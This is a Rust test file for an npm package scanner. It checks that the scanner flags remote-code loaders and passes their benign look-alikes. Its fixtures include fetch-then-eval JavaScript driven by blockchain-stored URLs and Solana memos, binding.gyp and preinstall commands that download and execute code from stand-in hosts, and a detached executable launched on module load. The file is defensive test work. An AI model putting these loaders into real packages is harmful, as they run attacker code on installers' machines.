//! Loaders that keep their code off the package: JavaScript that runs what a server (or
//! a blockchain record) returns, spread over lines no single rule reads together; a
//! `binding.gyp` whose command expansion hands such a loader to Node on install; and a
//! dependency downloaded over plain HTTP, so that the package itself holds nothing.
//! Written from published write-ups of 2024 and 2025 attacks (contract-stored URLs,
//! Solana memo dead drops, remote dynamic dependencies), with every host and name made
//! up, each beside the honest code it resembles.

mod common;

use common::{
    analyse_npm as analyse, assert_has, assert_lacks, assert_not_verdict, assert_verdict,
};
use palisade_core::Verdict;

const MAIN: &str = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js" }"#;
const POSTINSTALL: &str = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js",
  "scripts": { "postinstall": "node index.js" } }"#;

/// The contract holds a URL; the URL serves the code, run through `new Function`.
const CONTRACT_LOADER: &str = "const { ethers } = require('ethers');
const contract = new ethers.Contract(ADDRESS, ['function getString(address) view returns (string)'], provider);
(async () => {
  const u = await contract.getString(OWNER);
  const r = await fetch(u + '/' + process.platform);
  const fn = new Function('require', await r.text());
  fn(require);
})();
";

#[test]
fn a_response_run_as_code_at_install_time_is_malicious() {
    let attack = analyse(&[("package.json", POSTINSTALL), ("index.js", CONTRACT_LOADER)]);
    assert_verdict(&attack, Verdict::Malicious);
    let run = attack
        .findings
        .iter()
        .find(|f| f.rule == "execution/javascript-runs-response")
        .expect("javascript-runs-response");
    assert_eq!(run.line, Some(6));
    assert!(run.message.contains("network at line 5"), "{}", run.message);
}

#[test]
fn a_memo_dead_drop_decoded_and_evaluated_on_require_is_malicious() {
    let loader = "const { Connection, PublicKey } = require('@solana/web3.js');
const conn = new Connection(RPC);
(async () => {
  const sigs = await conn.getSignaturesForAddress(new PublicKey(WALLET), { limit: 1000 });
  const memo = sigs.filter(s => s.memo)[0].memo;
  const link = atob(JSON.parse(memo.replace(/^\\[\\d+\\] /, '')).link);
  const res = await fetch(link, { headers: { os: process.platform } });
  const code = Buffer.from(await res.text(), 'base64').toString();
  eval(code);
})();
";
    let attack = analyse(&[("package.json", MAIN), ("index.js", loader)]);
    assert_verdict(&attack, Verdict::Malicious);
    assert_has(&attack, "execution/javascript-runs-response");
}

#[test]
fn fetching_data_and_evaluating_its_own_code_is_not_a_loader() {
    // A client library: fetches JSON, and compiles its own templates with `Function`.
    let honest = "const compile = (tpl) => new Function('ctx', 'return `' + tpl + '`;');
async function getUser(id) {
  const res = await fetch(`${API}/users/${id}`);
  const user = await res.json();
  return compile(TEMPLATE)(user);
}
module.exports = { getUser };
";
    let analysis = analyse(&[("package.json", MAIN), ("index.js", honest)]);
    assert_lacks(&analysis, "execution/javascript-runs-response");
    assert_not_verdict(&analysis, Verdict::Malicious);
}

#[test]
fn node_code_in_a_gyp_command_expansion_is_read_as_javascript() {
    // node-gyp runs `<!(...)` on install, with no install script in package.json.
    let gyp = r#"{
  'variables': { 'v': '<!(node -e "require(\'https\').get(\'https://cdn.example/p\',r=>{let d=\'\';r.on(\'data\',c=>d+=c);r.on(\'end\',()=>new Function(d)())})")' },
  'targets': [{ 'target_name': 'hash', 'sources': ['src/hash.cc'] }]
}
"#;
    let attack = analyse(&[
        ("package.json", MAIN),
        ("binding.gyp", gyp),
        ("src/hash.cc", "int x;\n"),
    ]);
    assert_verdict(&attack, Verdict::Malicious);
    assert_has(&attack, "execution/javascript-runs-response");

    // The usual expansion asks Node for an include path.
    let honest = r#"{
  'targets': [{
    'target_name': 'hash',
    'include_dirs': ["<!(node -p \"require('node-addon-api').include_dir\")"],
    'sources': ['src/hash.cc']
  }]
}
"#;
    let analysis = analyse(&[
        ("package.json", MAIN),
        ("binding.gyp", honest),
        ("src/hash.cc", "int x;\n"),
    ]);
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn a_dependency_over_plain_http_is_suspicious_in_a_file_scan() {
    let manifest = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js",
  "dependencies": { "ui-styles-pkg": "http://packages.example.com/npm/unused-imports", "eslint": "^9.0.0" } }"#;
    let attack = analyse(&[
        ("package.json", manifest),
        ("index.js", "module.exports = {};\n"),
    ]);
    assert_verdict(&attack, Verdict::Suspicious);
    assert_has(&attack, "registry/cleartext-url-dependency");

    // A git dependency over TLS is reported, and weighs less.
    let git = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js",
  "dependencies": { "fork": "git+https://example.org/me/fork.git#v1.2.0" } }"#;
    let analysis = analyse(&[
        ("package.json", git),
        ("index.js", "module.exports = {};\n"),
    ]);
    assert_has(&analysis, "registry/url-dependency");
    assert_lacks(&analysis, "registry/cleartext-url-dependency");
    assert_verdict(&analysis, Verdict::Clean);
}

#[test]
fn a_shipped_program_started_detached_when_the_module_loads_is_malicious() {
    let index = "const path = require('path');
const { spawn } = require('child_process');
if (process.platform === 'win32') {
  spawn(path.join(__dirname, 'bin', 'colorsvc.exe'), [], { detached: true, stdio: 'ignore' }).unref();
}
module.exports = (s) => s;
";
    let attack = analyse(&[("package.json", MAIN), ("index.js", index)]);
    assert_verdict(&attack, Verdict::Malicious);
    assert_has(&attack, "correlate/import-time-background-process");

    // A daemon manager starts its daemon detached when asked to, not when loaded; an
    // update check starts Node again on its own file.
    for honest in [
        "const { spawn } = require('child_process');
exports.start = function (bin) {
  return spawn(bin, [], { detached: true, stdio: 'ignore' });
};
",
        "const { spawn } = require('child_process');
spawn(process.execPath, [require('path').join(__dirname, 'check.js')], { detached: true, stdio: 'ignore' }).unref();
",
    ] {
        let analysis = analyse(&[("package.json", MAIN), ("index.js", honest)]);
        assert_lacks(&analysis, "correlate/import-time-background-process");
        assert_not_verdict(&analysis, Verdict::Malicious);
    }
}

#[test]
fn python_handed_code_by_an_install_script_or_gyp_file_is_read_as_python() {
    let fetch_exec =
        r#"import urllib.request as u;exec(u.urlopen('https://cdn.example/s').read())"#;
    let manifest = format!(
        r#"{{ "name": "demo", "version": "1.0.0", "main": "index.js",
  "scripts": {{ "preinstall": "python3 -c \"{fetch_exec}\" || true" }} }}"#
    );
    let attack = analyse(&[
        ("package.json", &manifest),
        ("index.js", "module.exports = {};\n"),
    ]);
    assert_verdict(&attack, Verdict::Malicious);
    assert_has(&attack, "execution/python-exec-remote");

    let gyp = format!(
        "{{\n  'variables': {{ 'v': '<!(python3 -c \"{}\")' }},\n  'targets': [{{ 'target_name': 'h', 'sources': ['h.cc'] }}]\n}}\n",
        fetch_exec.replace('\'', "\\'")
    );
    let attack = analyse(&[
        ("package.json", MAIN),
        ("binding.gyp", &gyp),
        ("h.cc", "int x;\n"),
    ]);
    assert_verdict(&attack, Verdict::Malicious);
    assert_has(&attack, "execution/python-exec-remote");

    // Build scripts ask Python for its version or a path all the time.
    let honest = r#"{ "name": "demo", "version": "1.0.0", "main": "index.js",
  "scripts": { "install": "python3 -c \"import sys; print(sys.version_info[:2])\" && node-gyp rebuild" } }"#;
    let analysis = analyse(&[
        ("package.json", honest),
        ("index.js", "module.exports = {};\n"),
    ]);
    assert_verdict(&analysis, Verdict::Clean);
}
